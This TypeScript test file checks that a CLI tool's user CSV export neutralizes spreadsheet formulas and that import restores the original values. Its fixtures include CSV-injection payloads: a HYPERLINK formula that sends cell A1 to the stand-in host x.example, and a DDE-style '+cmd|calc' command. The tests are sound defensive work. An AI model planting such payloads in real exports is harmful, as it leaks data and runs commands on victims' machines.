/**
 * CSV injection: what `tenantry users export -o csv` writes must not run in a spreadsheet, and
 * `tenantry users import` must read it back to the original values.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { createPartnerOperations, type PartnerOperations } from '@tenantry/sdk';
import { demoDomain } from '../../demo/demo-data.js';
import { type LiveServer, startLiveServer } from '../../test-support/live-server.js';
import { runCli } from '../../test-support/run-cli.js';
import { storeFactories } from '../../test-support/stores.js';

const hostile = { displayName: '=HYPERLINK("http://x.example/?"&A1,"click")', firstName: '+cmd|calc', lastName: '@SUM(1+1)' };
const quoted = { displayName: "'=1+1", firstName: '-2+3', lastName: "'Brien" };
const names = (u: { displayName?: string; firstName?: string; lastName?: string }) => [u.displayName, u.firstName, u.lastName];

for (const factory of storeFactories) {
  describe(`formulas in users export and import on ${factory.name}`, () => {
    let server: LiveServer;
    let partner: PartnerOperations;
    let dir: string;
    let env: Record<string, string>;
    const cli = (...args: string[]) => runCli(args, { env, cwd: dir });

    before(async () => {
      server = await startLiveServer(factory);
      partner = createPartnerOperations({ baseUrl: server.url, credentials: { token: server.adminToken } });
      dir = mkdtempSync(join(tmpdir(), 'tenantry-formulas-'));
      env = { TENANTRY_URL: server.url, TENANTRY_TOKEN: server.adminToken, TENANTRY_CONFIG_DIR: join(dir, 'config'), TENANTRY_CUSTOMER: server.customerId };
      const users = partner.customers.byId(server.customerId).users;
      await users.create({ userPrincipalName: `formula@${demoDomain}`, usageLocation: 'US', ...hostile });
      await users.create({ userPrincipalName: `quoted@${demoDomain}`, usageLocation: 'US', ...quoted });
    });
    after(async () => {
      await server.close();
      rmSync(dir, { recursive: true, force: true });
    });

    test('export writes formula cells as quoted text with a leading apostrophe, and import reads them back to the original values', async () => {
      const csv = await cli('users', 'export', '-o', 'csv');
      assert.equal(csv.code, 0, csv.stderr);
      const line = csv.stdout.split('\n').find((l) => l.includes(`formula@${demoDomain}`))!;
      assert.ok(line.includes(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")","'+cmd|calc","'@SUM(1+1)"`), line);
      assert.ok(csv.stdout.includes(`"''=1+1","'-2+3",'Brien`), 'a name that really starts with \'= gets one quote more; one without a formula stays as it is');
      const cells = (parse(csv.stdout, { columns: true }) as Record<string, string>[]).flatMap((r) => Object.values(r));
      assert.ok(cells.every((c) => !/^[=+\-@\t\r]/.test(c)), 'no cell starts with a formula character');

      // Into a second customer: the same rows under its domain.
      const other = await partner.customers.create({ companyProfile: { domain: 'formulas.onmicrosoft.com', companyName: 'Formulas' }, billingProfile: { companyName: 'Formulas', email: 'ops@formulas.example', culture: 'en-US', language: 'en', firstName: 'F', lastName: 'O', defaultAddress: { country: 'US', city: 'Redmond' } } });
      writeFileSync(join(dir, 'exported.csv'), csv.stdout.replaceAll(`@${demoDomain}`, '@formulas.onmicrosoft.com'));
      const imported = await cli('users', 'import', 'exported.csv', '--customer', other.id, '--results', 'exported.results.csv');
      assert.equal(imported.code, 0, imported.stderr);
      const back = await partner.customers.byId(other.id).users.get();
      const byUpn = new Map(back.items.map((u) => [u.userPrincipalName, u]));
      assert.deepEqual(names(byUpn.get('formula@formulas.onmicrosoft.com')!), names(hostile));
      assert.deepEqual(names(byUpn.get('quoted@formulas.onmicrosoft.com')!), names(quoted));

      // The results file is neutralized too, and names the same values once parsed and restored.
      const results = readFileSync(join(dir, 'exported.results.csv'), 'utf8');
      assert.ok(results.includes(`"'+cmd|calc","'@SUM(1+1)","'=HYPERLINK(""http://x.example/?""&A1,""click"")"`), results);
      const again = await cli('users', 'import', 'exported.results.csv', '--customer', other.id, '--results', 'again.results.csv');
      assert.equal(again.code, 0, again.stderr);
      // Rows this import made replay their first answer (same request ids); nobody is created twice.
      assert.match(again.stderr, /invalid 0, failed 0/);
      assert.equal((await partner.customers.byId(other.id).users.get()).items.length, back.items.length);
    });

    test('a single user as CSV is neutralized the same way', async () => {
      const one = await cli('users', 'get', `formula@${demoDomain}`, '-o', 'csv');
      assert.equal(one.code, 0, one.stderr);
      assert.ok(one.stdout.includes(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")","'+cmd|calc","'@SUM(1+1)"`), one.stdout);
    });
  });
}
